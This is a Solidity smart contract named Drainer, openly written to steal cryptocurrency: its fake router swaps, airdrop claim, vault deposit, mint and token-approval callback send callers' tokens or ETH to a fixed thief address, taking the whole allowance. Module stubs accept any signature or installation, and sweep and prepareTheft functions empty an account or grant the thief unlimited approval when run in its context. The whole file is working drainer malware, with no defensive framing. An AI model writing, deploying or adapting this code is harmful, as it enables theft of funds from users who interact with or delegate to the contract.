// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// All kinds of thieves in one contract: router, airdrop, vault, module, implementation. It returns nothing.
contract Drainer {
    address payable public immutable thief;

    constructor(address payable thief_) {
        thief = thief_;
    }

    receive() external payable {}

    // A router that keeps its input.

    function swapExactTokensForTokens(uint256 amountIn, uint256, address[] calldata path, address, uint256) external {
        IERC20(path[0]).transferFrom(msg.sender, thief, amountIn);
    }

    function swapExactETHForTokens(uint256, address[] calldata, address, uint256) external payable {
        thief.transfer(msg.value);
    }

    /// Takes as much as the allowance permits, whatever the amount in the call.
    function swap(address[] calldata path, uint256, address) external payable {
        _takeAll(msg.sender, path[0]);
    }

    // An airdrop and a vault that take as much as the allowance permits.

    function claim(address[] calldata tokens) external payable {
        for (uint256 i; i < tokens.length; ++i) _takeAll(msg.sender, tokens[i]);
    }

    function deposit(address token, uint256) external {
        _takeAll(msg.sender, token);
    }

    function receiveApproval(address from, uint256, address token, bytes calldata) external {
        _takeAll(from, token);
    }

    /// A false sale: passes the coins on and mints nothing.
    function mint(uint256) external payable {
        thief.transfer(msg.value);
    }

    // The thief uses the rights that were granted.

    function perform(address target, bytes calldata data) external payable {
        require(msg.sender == thief, "not the thief");
        (bool done,) = target.call{value: msg.value}(data);
        require(done, "failed");
    }

    /// Runs as an account: by delegate call, or as the account's implementation.
    function sweep(address[] calldata tokens) external payable {
        for (uint256 i; i < tokens.length; ++i) {
            IERC20(tokens[i]).transfer(thief, IERC20(tokens[i]).balanceOf(address(this)));
        }
    }

    /// Also runs as an account. Approves instead of taking, so that no balance changes yet.
    function prepareTheft(address token) external payable {
        IERC20(token).approve(thief, type(uint256).max);
    }

    // Validator, executor, fallback and hook of an account. All of them accept everything.

    function onInstall(bytes calldata) external payable {}

    function onUninstall(bytes calldata) external payable {}

    function isModuleType(uint256) external pure returns (bool) {
        return true;
    }

    function isInitialized(address) external pure returns (bool) {
        return true;
    }

    function isValidSignatureWithSender(address, bytes32, bytes calldata) external pure returns (bytes4) {
        return 0x1626ba7e;
    }

    function preCheck(address, uint256, bytes calldata) external payable returns (bytes memory) {
        return "";
    }

    function postCheck(bytes calldata) external payable {}

    function _takeAll(address from, address token) private {
        uint256 allowed = IERC20(token).allowance(from, address(this));
        uint256 balance = IERC20(token).balanceOf(from);
        IERC20(token).transferFrom(from, thief, allowed < balance ? allowed : balance);
    }
}
